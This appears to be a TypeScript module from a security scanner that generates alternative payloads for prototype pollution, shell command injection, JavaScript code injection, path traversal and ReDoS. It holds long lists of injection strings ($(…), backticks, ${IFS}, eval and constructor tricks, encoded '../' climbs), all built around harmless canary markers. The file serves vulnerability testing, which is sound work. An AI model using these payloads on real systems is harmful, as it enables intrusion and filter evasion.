/** Payloads of the same attack in other words, per class of flaw. Which of them work is for the caller to find out. */
import type { FlawClass } from '../formats/flaw-class.ts';
import type { ProbePlan } from '../probe/index.ts';

const PAYLOADS: Readonly<Record<FlawClass, (plan: ProbePlan) => string[]>> = {
  'prototype-pollution': ({ payload }) => pollutionPayloads(payload),
  'command-injection': ({ payload }) => commandPayloads(payload),
  'code-injection': ({ payload }) => codePayloads(payload),
  'path-traversal': ({ payload }) => traversalPayloads(payload),
  redos: ({ payload }) => redosPayloads(payload),
};

/** Other payloads in the place of the plan's own, by the syntax that one is written in. */
export const payloadsOf = (plan: ProbePlan) =>
  [...new Set(PAYLOADS[plan.flaw](plan))].filter((text) => text !== plan.payload);

const CANARY_MARK = '\u0001';
const LEAVES = ['1', 'true', 'null', '""', '{"x":1}', '["x"]'];

function pollutionPayloads(payload: string): string[] {
  if (/^\s*\{/.test(payload)) return objectPayloads(payload);
  if (/^\s*\[\s*["[]/.test(payload) && payload.endsWith(']') && !payload.startsWith('["__proto__"].')) {
    return [...otherRoutes(payload), ...KEY_LISTS];
  }
  return [...otherRoutes(payload), ...PATHS, ...TEXTS, ...textPayloads(payload)];
}

const TEXT_LEAVES = ['2', 'x', 'true', 'null', '""', 'a.b'];
const TEXT_STEPS = ['b', 'list', '0', 'a-b', 'x{}y', 'b{}c{}d'];

/** The same text with another value, a deeper key, or more steps before the route, in its own separator. */
function textPayloads(payload: string): string[] {
  const [, before = '', gap = '', , after = ''] = /^(.*\{\{canary\}\}[\]"']?)([\s=:]+)(\S+)(.*)$/s.exec(payload) ?? [];
  const leaves = gap === '' ? [] : TEXT_LEAVES.map((leaf) => before + gap + leaf + after);
  const [, separator] = /(?:__proto__|prototype)([./:_|>,-]|->)\{\{canary\}\}/.exec(payload) ?? [];
  if (separator === undefined) return leaves;
  const deeper = payload.replace('{{canary}}', `{{canary}}${separator}x`);
  const further = TEXT_STEPS.map((step) =>
    payload.replace(/__proto__|constructor/, (word) => step.replaceAll('{}', separator) + separator + word),
  );
  return [...leaves, deeper, ...further];
}

function objectPayloads(payload: string): string[] {
  const routes = [payload, ...otherRoutes(payload)];
  const leaves = routes.flatMap((route) => LEAVES.map((leaf) => route.replace(/"1"/, leaf)));
  const nested = routes.flatMap((route) => [
    `{"a":${route}}`,
    `{"a":{"b":${route}}}`,
    `{"a":[${route}]}`,
    `[${route}]`,
    route.replace(/^\{/, '{"k":"v",'),
    route.replace(/\}$/, ',"k":{"l":1}}'),
    route.replace(/\{"\{\{canary\}\}"/, '{"k":1,"{{canary}}"'),
    `{"x":1,"y":{"z":${route}}}`,
  ]);
  return [...nested, ...leaves];
}

/** Both ways to `Object.prototype`: by `__proto__`, and by `constructor` and `prototype`, in the payload's own syntax. */
export function otherRoutes(text: string): string[] {
  // The braces of the placeholder would be taken for the payload's own.
  const payload = text.replaceAll('{{canary}}', CANARY_MARK);
  const short = payload
    .replace(
      /"constructor"\s*:\s*\{\s*"prototype"\s*:\s*(\{[^{}]*\}|\{\s*"[^"]*"\s*:\s*[^{}]*\})\s*\}/,
      '"__proto__":$1',
    )
    .replace(/"constructor"\s*,\s*"prototype"/, '"__proto__"')
    .replace(/constructor(.{1,2})prototype/, '__proto__');
  const long = payload
    .replace(/"__proto__"\s*:\s*(\{[^{}]*\})/, '"constructor":{"prototype":$1}')
    .replace(/"__proto__"(?=\s*[,\]])/, '"constructor","prototype"')
    .replace(/(^|[^"\w])__proto__([.\-/,:|>[\s]|->)/, (_, before: string, separator: string) =>
      separator === '[' ? `${before}constructor[prototype][` : `${before}constructor${separator}prototype${separator}`,
    );
  return [short, long].map((one) => one.replaceAll(CANARY_MARK, '{{canary}}'));
}

export const KEY_LISTS = [
  '["__proto__","{{canary}}"]',
  '["constructor","prototype","{{canary}}"]',
  '["a","__proto__","{{canary}}"]',
  '["a","b","__proto__","{{canary}}"]',
  '["a","constructor","prototype","{{canary}}"]',
  '[["__proto__"],"{{canary}}"]',
  '[["constructor"],["prototype"],"{{canary}}"]',
  '[["constructor"],"prototype","{{canary}}"]',
  '["constructor",["prototype"],"{{canary}}"]',
  '["a",["__proto__"],"{{canary}}"]',
  '["__proto__",["{{canary}}"]]',
  '[["__proto__"],["{{canary}}"]]',
  '[[["__proto__"]],"{{canary}}"]',
  '["__proto__","{{canary}}","x"]',
  '["__proto__","{{canary}}",0]',
  '[0,"__proto__","{{canary}}"]',
  '["0","__proto__","{{canary}}"]',
  '["toString","__proto__","__proto__","{{canary}}"]',
  '["toString","constructor","prototype","__proto__","{{canary}}"]',
  '["","__proto__","{{canary}}"]',
  '"__proto__.{{canary}}"',
  '"constructor.prototype.{{canary}}"',
];

const PATHS = [
  '__proto__.{{canary}}',
  'constructor.prototype.{{canary}}',
  'a.__proto__.{{canary}}',
  'a.b.__proto__.{{canary}}',
  'a.constructor.prototype.{{canary}}',
  '__proto__.{{canary}}.x',
  'constructor.prototype.{{canary}}.x',
  '["__proto__"].{{canary}}',
  "['__proto__'].{{canary}}",
  '[__proto__].{{canary}}',
  '__proto__["{{canary}}"]',
  "__proto__['{{canary}}']",
  '__proto__[{{canary}}]',
  'a["__proto__"]["{{canary}}"]',
  'a[__proto__][{{canary}}]',
  'constructor["prototype"].{{canary}}',
  'constructor[prototype][{{canary}}]',
  'a[0].__proto__.{{canary}}',
  '0.__proto__.{{canary}}',
  '.__proto__.{{canary}}',
  '/__proto__/{{canary}}',
  '/constructor/prototype/{{canary}}',
  '/a/__proto__/{{canary}}',
  '__proto__/{{canary}}',
  'constructor/prototype/{{canary}}',
  '#/__proto__/{{canary}}',
  'toString.constructor.prototype.__proto__.{{canary}}',
  'toString.__proto__.__proto__.{{canary}}',
];

const TEXTS = [
  '[__proto__]\n{{canary}}=2\n',
  '[a]\nb=1\n[__proto__]\n{{canary}} = "x"\n',
  '[constructor.prototype]\n{{canary}}=1\n',
  'a=1\n[__proto__]\n{{canary}}=true\n',
  '__proto__.{{canary}}=2',
  '__proto__[{{canary}}]=2',
  'a=1&__proto__[{{canary}}]=1',
  'a[__proto__][{{canary}}]=x',
  'constructor[prototype][{{canary}}]=1',
  'constructor.prototype.{{canary}}=1',
  '--a=1 --__proto__.{{canary}}=1',
  '__proto__:\n  {{canary}}: 2\n',
];

const MAKERS = [
  'touch {{canary}}',
  'touch ./{{canary}}',
  '/usr/bin/touch {{canary}}',
  'echo x > {{canary}}',
  ': > {{canary}}',
  'printf x >{{canary}}',
  'tee {{canary}} </dev/null',
  'cp /dev/null {{canary}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a variable of the shell.
  'touch${IFS}{{canary}}',
  'true && touch {{canary}}',
  'sh -c "touch {{canary}}"',
  'mkdir -p d; touch {{canary}}',
];

const SHELL_FORMS = [
  '$(touch {{canary}})',
  '`touch {{canary}}`',
  ';touch {{canary}};',
  '; touch {{canary}} #',
  '& touch {{canary}} &',
  '&& touch {{canary}} #',
  '| touch {{canary}}',
  '|| touch {{canary}} ||',
  '\ntouch {{canary}}\n',
  '"; touch {{canary}}; "',
  "'; touch {{canary}}; '",
  '"$(touch {{canary}})"',
  "'$(touch {{canary}})'",
  '>{{canary}}',
  'x;touch {{canary}}',
  'x$(touch {{canary}})x',
  'x`touch {{canary}}`x',
  'x|touch {{canary}}',
  'x\ntouch {{canary}}',
  ') ; touch {{canary}} ; (',
];

/** The same form with another command inside, then other forms after the same harmless beginning. */
function commandPayloads(payload: string): string[] {
  const beginning = /^[\w@.:/-]*/.exec(payload)?.[0] ?? '';
  const sameForm = payload.includes('touch {{canary}}')
    ? MAKERS.map((maker) => payload.replace('touch {{canary}}', () => maker))
    : [];
  const otherForms = SHELL_FORMS.flatMap((form) => (beginning === '' ? [form] : [form, beginning + form]));
  return [...sameForm, ...otherForms];
}

export const STATEMENT = 'globalThis.{{canary}}=1';
const STATEMENTS = [
  'globalThis["{{canary}}"]=1',
  "globalThis['{{canary}}']=1",
  'globalThis.{{canary}}=2',
  'globalThis.{{canary}} = {}',
  'globalThis . {{canary}}=1',
  'globalThis/**/.{{canary}}=1',
  'global.{{canary}}=1',
  'Function("globalThis.{{canary}}=1")()',
  'new Function("globalThis.{{canary}}=1")()',
  '(0,eval)("globalThis.{{canary}}=1")',
  'Reflect.set(globalThis,"{{canary}}",1)',
  'Object.assign(globalThis,{ {{canary}}:1})',
  '(()=>{globalThis.{{canary}}=1})()',
  'void(globalThis.{{canary}}=1)',
  '[globalThis.{{canary}}=1]',
  '0,globalThis.{{canary}}=1',
  'this.constructor.constructor("globalThis.{{canary}}=1")()',
  '[].constructor.constructor("globalThis.{{canary}}=1")()',
  '"".sub.constructor("globalThis.{{canary}}=1")()',
  '(function(){globalThis.{{canary}}=1})()',
  '\\u0067lobalThis.{{canary}}=1',
];
const AROUND = [
  ['(', ')'],
  [';', ';'],
  ["';", ";'"],
  ['";', ';"'],
  ["'+(", ")+'"],
  ['"+(', ')+"'],
  ['1;', ''],
  ['', ';//'],
  ['\n', '\n'],
  ['[', ']'],
] as const;

function codePayloads(payload: string): string[] {
  const inside = payload.includes(STATEMENT)
    ? STATEMENTS.map((statement) => payload.replace(STATEMENT, () => statement))
    : [];
  return [...inside, ...STATEMENTS, ...AROUND.map(([before, after]) => `${before}${STATEMENT}${after}`)];
}

/** One step up, however it is written. */
export const CLIMB = /(?:\.\.|%2e%2e|\.%2e|%2e\.)(?:\/|%2f|\\|%5c)+/gi;
const CLIMBS = [
  '../',
  '..%2f',
  '%2e%2e/',
  '%2e%2e%2f',
  '%2E%2E/',
  '.%2e/',
  '%2e./',
  './../',
  '..//',
  '..\\',
  '..%5c',
  '%252e%252e%252f',
  '..;/',
  '....//',
  // Ways that need no decoding: a server may well decode nothing.
  '..///',
  '.././',
  './/../',
  './/..//',
];
/** Stands before the climb; the first of them need not exist where paths are put together as text. */
const BEFORE_CLIMB = ['/static/', '/public/', '/x/', '//', '/./', '/././', '/.//', '///'];

function traversalPayloads(payload: string): string[] {
  if (payload.search(CLIMB) < 0) return [];
  const same = CLIMBS.map((form) => payload.replace(CLIMB, () => form));
  const more = BEFORE_CLIMB.map((prefix) => prefix + payload.replace(/^\//, ''));
  return [...same, ...more, `${payload}?x=1`, `${payload}#x`];
}

/** The grammar knows more of the expression than its input does; these stay closest to the input. */
function redosPayloads(payload: string): string[] {
  if (!payload.includes('{{repeat}}')) return [];
  const ends = ['', '!', '\n', '\0', '\u2028', ' ', 'x', '!x', '\t!', '@', '<', '"', '\n\n'];
  const starts = ['', 'x', ' ', 'a ', '\n', '0', '<', '"', 'x '];
  return [...ends.map((end) => payload + end), ...starts.map((start) => start + payload)];
}
